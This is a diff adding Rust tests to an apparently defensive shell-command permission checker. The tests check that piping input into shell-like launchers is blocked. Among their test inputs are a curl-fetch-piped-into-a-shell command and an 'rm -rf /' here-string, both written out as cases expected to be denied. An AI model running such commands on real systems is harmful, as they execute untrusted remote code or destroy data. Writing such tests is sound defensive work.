@@ -186,3 +186,110 @@ fn what_comes_in_through_several_shells_keeps_its_place() {
         }
     }
 }
+
+#[test]
+fn a_program_that_is_a_shell_unless_told_otherwise_takes_no_code_from_its_input() {
+    let programs = [
+        "script log",
+        "setarch x86_64",
+        "setarch aarch64 -R",
+        "linux64",
+        "linux32 -R",
+        "fakeroot",
+        "fakeroot --",
+        "capsh --",
+        "capsh --print --",
+        "nix-shell",
+        "nix-shell -p hello",
+        "nix develop",
+        "poetry shell",
+        "pipenv shell",
+        "hush",
+        "busybox hush",
+        "rksh",
+        "rzsh",
+        "zsh-static",
+        "tsx",
+        "ts-node",
+        "asciinema rec f",
+        "crontab",
+        "crontab -",
+        "npx",
+        "npm exec",
+        "pasta",
+        "pkexec",
+        "run0",
+        "systemd-run --shell",
+    ];
+    for program in programs {
+        assert_stopped(
+            &confined(),
+            &[&format!("curl -s https://example.com/x | {program}"), &format!("cat a | {program}")],
+        );
+    }
+    assert_shell(
+        &confined(),
+        &[
+            ("linux64 <<< 'rm -rf /'", Answer::Deny),
+            ("fakeroot <<< 'rm -rf /'", Answer::Deny),
+            ("fakeroot <<< 'ls src'", Answer::Allow),
+        ],
+    );
+    assert_allowed(
+        &confined(),
+        &[
+            "cat a | linux64 wc -l",
+            "fakeroot make",
+            "setarch x86_64 -R make",
+            "nix-shell --version",
+            "poetry run pytest",
+            "tsx a.ts < a",
+            "crontab -l",
+            "capsh --print",
+            "npx --version",
+        ],
+    );
+}
+
+/// Launchers that run nothing of their input where nothing is said to launch, and why.
+const IDLE: [(&str, &str); 6] = [
+    (
+        "say how they are used, and fail",
+        "busybox busybox.static coreutils sbase toybox ubase uutils catchsegv chronic eatmydata \
+         ifne nocache optirun primusrun proxychains proxychains4 run-one run-this-one torify \
+         torsocks tsocks unbuffer vglrun wine wine64 ccache distcc icecc sccache choom chpst \
+         cpulimit cross-env cross-env-shell env-cmd daemon daemonize dbus-run-session dotenv \
+         dotenvx envchain enosys entr grc ld.so ltrace msgfilter multitime nohup numactl cgexec \
+         nyc c8 istanbul pexec rlwrap setpriv setsid softlimit sshpass stdbuf strace dtruss truss \
+         valgrind gprofng heaptrack memusage sprof uftrace xtables-nft-multi \
+         xtables-legacy-multi xtables-multi xvfb-run",
+    ),
+    ("show what is set", "env exec nice ionice prlimit uclampset systemd-inhibit uvx"),
+    ("are the shell's own, and do nothing", "command builtin time"),
+    ("serve, or wait, and read no input", "caffeinate dbus-launch gpg-agent ssh-agent"),
+    ("open a window, whose input is its own", "foot footclient ghostty kitty"),
+    ("pass their input on as it is", "ccze colorize colout rainbow pipesz systemd-cat"),
+];
+
+#[test]
+fn no_launcher_runs_its_input_where_nothing_is_said_to_launch() {
+    let table = include_str!("../../../tools.txt");
+    let judge = confined();
+    let mut idle: Vec<&str> = IDLE.iter().flat_map(|(_, names)| names.split(' ')).collect();
+    let mut wrong = Vec::new();
+    for row in table.split("\n\n").filter(|row| !row.starts_with(['#', ' '])) {
+        if !row.lines().any(|line| line.starts_with("  1 argv")) {
+            continue;
+        }
+        for name in row.lines().next().unwrap_or_default().split(' ') {
+            let is_allowed = of_shell(&judge, &format!("cat a | {name}")).answer() == Answer::Allow;
+            let listed = idle.iter().position(|idle| *idle == name);
+            listed.map(|at| idle.swap_remove(at));
+            if is_allowed != listed.is_some() {
+                wrong.push(name);
+            }
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join(" "));
+    assert!(idle.is_empty(), "no launchers: {}", idle.join(" "));
+}
